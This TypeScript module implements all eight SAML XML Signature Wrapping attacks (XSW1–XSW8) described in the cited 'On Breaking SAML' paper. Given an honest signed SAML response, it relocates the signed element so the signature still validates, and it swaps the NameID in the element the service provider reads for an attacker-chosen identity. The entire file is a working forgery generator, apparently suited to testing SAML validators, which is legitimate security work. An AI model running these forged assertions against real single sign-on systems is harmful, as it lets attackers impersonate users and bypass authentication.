import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * The eight ways of wrapping a signature (Somorovsky and others, "On Breaking SAML", 2012): the signed part stays in
 * the message somewhere, so that the signature holds, and what is read is the attacker's. From an honest message.
 */
export const WRAPPINGS = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;

export type Wrapping = (typeof WRAPPINGS)[number];

/** 1 and 2 wrap a signed response, the others a signed assertion. */
export const needsSignedResponse = (name: Wrapping): boolean => name === 'XSW1' || name === 'XSW2';

export function wrapped(honest: string, name: Wrapping, evilName: string): string {
  const document = new DOMParser().parseFromString(honest, 'text/xml');
  const response = document.documentElement;
  const find = (parent: Element, local: string): Element => {
    const found = Array.from(parent.childNodes).find(
      (node): node is Element => node.nodeType === 1 && (node as Element).localName === local,
    );
    if (!found) throw new Error(`no ${local}`);
    return found;
  };
  const without = (element: Element, local: string): Element => {
    const copy = element.cloneNode(true) as Element;
    copy.removeChild(find(copy, local));
    return copy;
  };
  const makeEvil = (element: Element): void => {
    element.setAttribute('ID', '_evil');
    for (const nameId of Array.from(element.getElementsByTagName('saml:NameID')))
      nameId.textContent = evilName;
  };
  const assertion = find(response, 'Assertion');

  if (name === 'XSW1' || name === 'XSW2') {
    const original = without(response, 'Signature');
    const signature = find(response, 'Signature');
    makeEvil(response);
    if (name === 'XSW1') signature.appendChild(original);
    else response.insertBefore(original, signature);
    return new XMLSerializer().serializeToString(document);
  }

  const evil = without(assertion, 'Signature');
  makeEvil(evil);
  const original = without(assertion, 'Signature');
  if (name === 'XSW3') response.insertBefore(evil, assertion);
  if (name === 'XSW4') {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  }
  if (name === 'XSW5') {
    makeEvil(assertion);
    response.appendChild(original);
  }
  if (name === 'XSW6') {
    makeEvil(assertion);
    find(assertion, 'Signature').appendChild(original);
  }
  if (name === 'XSW7') {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(evil);
    response.insertBefore(extensions, assertion);
  }
  if (name === 'XSW8') {
    makeEvil(assertion);
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
    object.appendChild(original);
    find(assertion, 'Signature').appendChild(object);
  }
  return new XMLSerializer().serializeToString(document);
}
